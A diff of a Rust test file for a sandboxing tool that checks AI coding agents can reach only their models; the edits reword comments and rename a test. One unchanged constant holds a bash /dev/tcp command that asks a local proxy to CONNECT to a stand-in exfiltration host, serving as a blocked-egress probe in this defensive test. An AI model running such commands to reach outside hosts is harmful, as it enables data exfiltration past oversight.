@@ -1,6 +1,6 @@
-//! Network policies, from the case to the record: the real agents reach their models and nothing else.
+//! Network policies, from the case to the record: the real agents can reach their models and nothing else.
 //!
-//! Without a CLI its test is skipped with a message (`testkit::real`).
+//! If a CLI is missing, its test is skipped with a message (`testkit::real`).
 
 #![allow(clippy::unwrap_used, clippy::print_stdout, reason = "a test that cannot go on fails")]
 
@@ -12,10 +12,10 @@ use crate::hostile::refusal;
 
 const TRIALRUN: &str = env!("CARGO_BIN_EXE_trialrun");
 
-/// Command of an agent that asks the proxy for a host, and shows the answer.
+/// Command for an agent that requests a host from the proxy, and shows the answer.
 const ASKS: &str = r#"bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT exfil.example:443 HTTP/1.1\r\n\r\n" >&3; head -n 1 <&3'"#;
 
-/// Runs a real agent with only its model, whose script calls `tool` with the command under `argument`.
+/// Runs a real agent that can reach only its model, whose script calls `tool` with the command under `argument`.
 fn works_with_only_its_model(agent: RealAgent, tool: &str, argument: &str) {
     if let Some(refusal) = refusal() {
         return println!("isolated SKIPPED: {refusal}");
@@ -62,7 +62,7 @@ fn the_real_opencode_works_with_only_its_model() {
     works_with_only_its_model(OPENCODE, "bash", "command");
 }
 
-/// Returns a project with an agent that runs `script`, and a case with these settings of the sandbox and assertions.
+/// Returns a project with an agent that runs `script`, and a case with these sandbox settings and assertions.
 fn project(script: &str, sandbox: &str, assertions: &str) -> Project {
     let project = Project::new(TRIALRUN);
     project.write("agent.sh", &format!("read -r line\n{script}\necho '{{\"text\": \"Done.\"}}'\n"));
@@ -139,7 +139,7 @@ fn without_isolation_the_assertions_are_undecided_and_a_policy_is_not_ignored() 
 }
 
 #[test]
-fn a_misspelt_policy_is_reported_with_its_place_and_a_suggestion() {
+fn a_misspelt_policy_is_reported_with_its_location_and_a_suggestion() {
     let project = project("true", "{network: model_only}", "{id: none, type: no_egress}");
     let found = project.run(&["check", "case.yaml"]).exits(2).output();
     assert!(found.contains("case.yaml:5:20") && found.contains("did you mean `model-only`"), "{found}");
